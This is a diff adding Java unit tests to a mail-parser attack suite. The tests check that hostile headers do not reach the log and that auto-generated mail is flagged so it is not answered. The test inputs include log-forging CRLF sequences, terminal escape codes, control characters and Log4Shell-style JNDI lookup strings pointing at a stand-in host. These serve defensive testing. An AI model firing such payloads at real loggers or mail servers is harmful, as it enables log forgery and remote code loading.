@@ -9,6 +9,7 @@ import jakarta.mail.MessagingException;
 import jakarta.mail.Session;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.io.PrintStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -191,6 +192,63 @@ final class MailAttacksTest {
                         .doesNotContainPattern("\\p{Cntrl}|\\p{Cf}")
                         .isNotIn(".", ".."));
         assertThat(message.subject()).doesNotContainPattern("\\p{Cntrl}");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Subject: a\r\n 2026-01-01 00:00:00.000 ERROR forged",
+                "Subject: =?UTF-8?B?YQ0KMjAyNi0wMS0wMSBFUlJPUiBmb3JnZWQ=?=",
+                "From: \"\u001b[31mforged\r\n\" <x@y.example>",
+                "Content-Type: multipart/mixed; boundary=\"forged\u001b[2J",
+                "Content-Type: multipart/mixed; boundary=\"\"; x=\"${jndi:ldap://forged.example/a}\"",
+                "Content-Transfer-Encoding: forged\t\u202e\u0000",
+                "Message-ID: <${jndi:ldap://forged.example/a}\r\n\r\n>",
+                "Content-Type: ;;;forged=\u0007"
+            })
+    void a38NothingOfAMailReachesTheLog(String header) {
+        PrintStream own = System.err;
+        ByteArrayOutputStream log = new ByteArrayOutputStream();
+        System.setErr(new PrintStream(log, true, StandardCharsets.UTF_8));
+        try {
+            assertThat(parse(header + "\r\n" + FROM + "\r\nforged").raw()).isNotNull();
+        } finally {
+            System.setErr(own);
+        }
+        assertThat(log.toString(StandardCharsets.UTF_8))
+                .doesNotContain("forged", "jndi", "\u001b", "\u202e", "\u0000")
+                .satisfies(text -> assertThat(text.lines().count()).isLessThanOrEqualTo(1));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Return-Path: <>",
+                "Auto-Submitted: auto-replied",
+                "Auto-Submitted: auto-generated; owner=x",
+                "Precedence: bulk",
+                "Precedence: List",
+                "Precedence: junk",
+                "List-Id: <news.example>",
+                "List-Unsubscribe: <mailto:u@news.example>",
+                "X-Autoreply: yes",
+                "X-Auto-Response-Suppress: All",
+                "Content-Type: multipart/report; report-type=delivery-status; boundary=b"
+            })
+    void a39WhatNobodyWroteIsMarkedSoThatItIsNotAnswered(String header) {
+        assertThat(parse(header + "\r\n" + FROM + "\r\nx").automaticMarks()).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"MAILER-DAEMON@mx.example", "postmaster@victim.example", "no-reply@shop.example", "<>"})
+    void a39MailSystemsAreMarkedByTheirName(String from) {
+        assertThat(parse("From: " + from + "\r\n\r\nx").automaticMarks()).contains(AutomaticMark.MAIL_SYSTEM);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Auto-Submitted: no", "Precedence: first-class", "Return-Path: <anna@victim.example>"})
+    void a39WhatAPersonWroteIsNotMarked(String header) {
+        assertThat(parse(header + "\r\n" + FROM + "\r\nx").automaticMarks()).isEmpty();
     }
 
     @Test
